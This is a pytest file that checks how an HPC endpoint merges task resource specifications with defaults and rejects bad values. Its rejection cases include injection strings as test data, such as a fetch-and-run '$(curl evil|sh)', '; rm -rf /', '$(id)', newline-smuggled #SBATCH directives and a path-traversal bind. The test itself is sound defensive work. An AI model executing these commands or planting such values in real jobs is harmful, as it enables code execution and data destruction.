"""Resource specifications: merging over endpoint defaults, validation, refusals."""

from __future__ import annotations

import pytest

from fnrelay_endpoint.engines.resources import (
    FREE_TEXT_KEYS,
    ResourceSpecification,
    ResourceSpecificationError,
    parse_walltime,
)

from_task = ResourceSpecification.from_task


def refused(spec, defaults=None, allowed=frozenset(), scheduler=None) -> str:
    with pytest.raises(ResourceSpecificationError) as info:
        from_task(spec, defaults, allowed, scheduler=scheduler)
    return str(info.value)


def test_empty_spec_is_one_rank_on_one_node():
    spec = from_task({}, {})
    assert (spec.num_nodes, spec.ranks_per_node, spec.num_ranks) == (1, 1, 1)
    assert spec.walltime is None and spec.partition is None and not spec.exclusive


def test_task_values_override_endpoint_defaults():
    spec = from_task({"partition": "gpu", "walltime": 600},
                     {"partition": "cpu", "account": "proj", "walltime": 60})
    assert (spec.partition, spec.account, spec.walltime) == ("gpu", "proj", 600)


def test_num_ranks_alone_ignores_default_layout():
    # docs/hpc.md: resource_specification={"num_ranks": 2} on any endpoint.
    spec = from_task({"num_ranks": 2}, {"num_nodes": 1, "ranks_per_node": 1})
    assert (spec.num_nodes, spec.ranks_per_node, spec.num_ranks) == (1, 2, 2)


@pytest.mark.parametrize("task, expected", [
    ({"num_nodes": 2, "ranks_per_node": 4}, (2, 4, 8)),
    ({"num_nodes": 3}, (3, 1, 3)),
    ({"num_ranks": 5, "num_nodes": 2}, (2, 3, 5)),
    ({"num_ranks": 8, "ranks_per_node": 4}, (2, 4, 8)),
    ({"num_ranks": 6, "num_nodes": 2, "ranks_per_node": 3}, (2, 3, 6)),
])
def test_layout_is_derived(task, expected):
    spec = from_task(task, {"num_nodes": 10, "ranks_per_node": 10})
    assert (spec.num_nodes, spec.ranks_per_node, spec.num_ranks) == expected


def test_default_layout_applies_when_task_sets_none():
    spec = from_task({"walltime": 5}, {"num_nodes": 2, "ranks_per_node": 2})
    assert (spec.num_nodes, spec.ranks_per_node, spec.num_ranks) == (2, 2, 4)


@pytest.mark.parametrize("task", [
    {"num_ranks": 7, "num_nodes": 2, "ranks_per_node": 3},
    {"num_ranks": 1, "num_nodes": 2},
])
def test_inconsistent_layout_refused(task):
    assert "'num_ranks'" in refused(task)


@pytest.mark.parametrize("value, seconds", [(90, 90), ("00:01:30", 90), ("48:00:00", 172800)])
def test_walltime_forms(value, seconds):
    assert from_task({"walltime": value}).walltime == seconds
    assert parse_walltime(value) == seconds


@pytest.mark.parametrize("value, normal", [("4G", "4G"), ("512m", "512M"), ("2GB", "2G"),
                                           ("1T", "1T")])
def test_memory_normalized(value, normal):
    assert from_task({"memory": value}).memory == normal


def test_queue_is_partition():
    assert from_task({"queue": "debug"}).partition == "debug"
    assert "'queue'" in refused({"queue": "a", "partition": "b"})


@pytest.mark.parametrize("key, value", [
    ("partition", "debug\n#SBATCH --uid=0"),
    ("partition", "debug\n"),
    ("partition", "a b"),
    ("account", "proj\n"),
    ("memory", "4G\n"),
    ("conda", {"env": "sci\n"}),
    ("partition", "x;reboot"),
    ("account", "; rm -rf /"),
    ("account", "proj'"),
    ("qos", "$(id)"),
    ("constraint", "a\nb"),
    ("num_nodes", 0),
    ("num_nodes", "2"),
    ("num_nodes", True),
    ("num_ranks", 10**9),
    ("cores_per_rank", -1),
    ("gpus_per_node", 1.5),
    ("memory", "4"),
    ("memory", "4G; id"),
    ("walltime", "1:00"),
    ("walltime", "00:61:00"),
    ("walltime", -5),
    ("walltime", "01:00:00\n#SBATCH -p x"),
    ("exclusive", "yes"),
    ("conda", {"env": "x; id"}),
    ("conda", {"env": "a", "prefix": "/b"}),
    ("conda", {"prefix": "relative/path"}),
    ("conda", "myenv"),
])
def test_bad_values_refused_naming_key(key, value):
    message = refused({key: value})
    assert repr(key)[:-1] in message  # the key (possibly with a sub-key) is named
    shown = [value, *value.values()] if isinstance(value, dict) else [value]
    assert any(repr(v)[:20] in message for v in shown)  # and so is the bad value


@pytest.mark.parametrize("container, key", [
    ({"type": "apptainer", "image": "$(curl evil|sh)"}, "container.image"),
    ({"type": "apptainer", "image": "img.sif; id"}, "container.image"),
    ({"type": "apptainer", "image": "a b"}, "container.image"),
    ({"type": "apptainer", "image": "x.sif\n"}, "container.image"),
    ({"type": "podman", "image": "alpine", "binds": ["/data\n"]}, "container.binds"),
    ({"type": "lxc", "image": "x.sif"}, "container.type"),
    ({"type": "podman", "image": "alpine", "binds": ["relative"]}, "container.binds"),
    ({"type": "podman", "image": "alpine", "binds": ["/a:/b:/c:/d"]}, "container.binds"),
    ({"type": "podman", "image": "alpine", "binds": ["/a,/etc"]}, "container.binds"),
    ({"type": "podman", "image": "alpine", "binds": ["/a\n/b"]}, "container.binds"),
    ({"type": "podman", "image": "alpine", "binds": ["/data/../etc"]}, "container.binds"),
    ({"type": "podman", "image": "alpine", "privileged": True}, "container.privileged"),
])
def test_bad_containers_refused(container, key):
    assert repr(key)[:-1] in refused({"container": container})


def test_unknown_key_refused():
    message = refused({"num_gpus": 2})
    assert "'num_gpus'" in message and "unknown" in message


def test_unknown_default_key_refused():
    assert "'nodes'" in refused({}, {"nodes": 2})


@pytest.mark.parametrize("key, value", [
    ("scheduler_options", ["#SBATCH --mem=1G"]),
    ("launcher_options", "--cpu-bind=cores"),
    ("modules", ["gcc"]),
    ("pre_exec", ["echo hi"]),
])
def test_free_text_per_task_refused_unless_allowed(key, value):
    message = refused({key: value})
    assert repr(key) in message and "admin" in message
    spec = from_task({key: value}, {}, {key})
    assert getattr(spec, key) == value


def test_container_options_per_task_refused_unless_allowed():
    container = {"type": "apptainer", "image": "x.sif", "options": "--nv"}
    assert "'container.options'" in refused({"container": container})
    assert from_task({"container": container}, {}, {"container.options"}).container["options"] \
        == "--nv"


def test_free_text_from_endpoint_defaults_is_allowed():
    spec = from_task({"num_ranks": 2}, {
        "pre_exec": ["source /opt/site/env.sh"], "modules": ["openmpi/4.1"],
        "container": {"type": "apptainer", "image": "/img/a.sif", "options": "--nv"},
    })
    assert spec.pre_exec == ["source /opt/site/env.sh"] and spec.modules == ["openmpi/4.1"]
    assert spec.container["options"] == "--nv"


def test_task_container_keeps_admin_options():
    spec = from_task({"container": {"type": "apptainer", "image": "/img/b.sif"}},
                     {"container": {"type": "apptainer", "image": "/img/a.sif",
                                    "options": "--nv"}})
    assert spec.container == {"type": "apptainer", "image": "/img/b.sif", "binds": [],
                              "options": "--nv"}


def test_allowed_keys_must_be_free_text_keys():
    with pytest.raises(ResourceSpecificationError, match="not free-text keys"):
        from_task({}, {}, {"partition"})
    assert "container.options" in FREE_TEXT_KEYS


@pytest.mark.parametrize("scheduler, line", [
    ("slurm", "--mem=1G"),
    ("slurm", "#PBS -l mem=1gb"),
    ("slurm", "#SBATCHX"),
    ("pbspro", "#SBATCH --mem=1G"),
])
def test_scheduler_options_need_the_directive_prefix(scheduler, line):
    message = refused({}, {"scheduler_options": [line]}, scheduler=scheduler)
    assert "'scheduler_options'" in message


def test_scheduler_options_lines_hold_no_newline():
    message = refused({"scheduler_options": ["#SBATCH --mem=1G\nid"]}, {}, {"scheduler_options"})
    assert "'scheduler_options'" in message
    # a string is split into lines, each of which must then carry the prefix
    message = refused({"scheduler_options": "#SBATCH --mem=1G\nid"}, {}, {"scheduler_options"},
                      scheduler="slurm")
    assert "'id'" in message


def test_long_bad_values_are_truncated_in_the_message():
    message = refused({"partition": "x" * 1000})
    assert len(message) < 300


def test_odd_but_legal_values_accepted():
    spec = from_task({
        "partition": "gpu-a100_x.2", "account": "PRJ.123-a", "constraint": "a100&ib|[rack1*2]",
        "container": {"type": "podman", "image": "ghcr.io/org/img:1.0@sha256:abc123",
                      "binds": ["/data", "/in:/mnt/in:ro"]},
        "conda": {"env": "sci-py3.11+cuda"},
    })
    assert spec.constraint == "a100&ib|[rack1*2]"
    assert spec.container["binds"] == ["/data", "/in:/mnt/in:ro"]
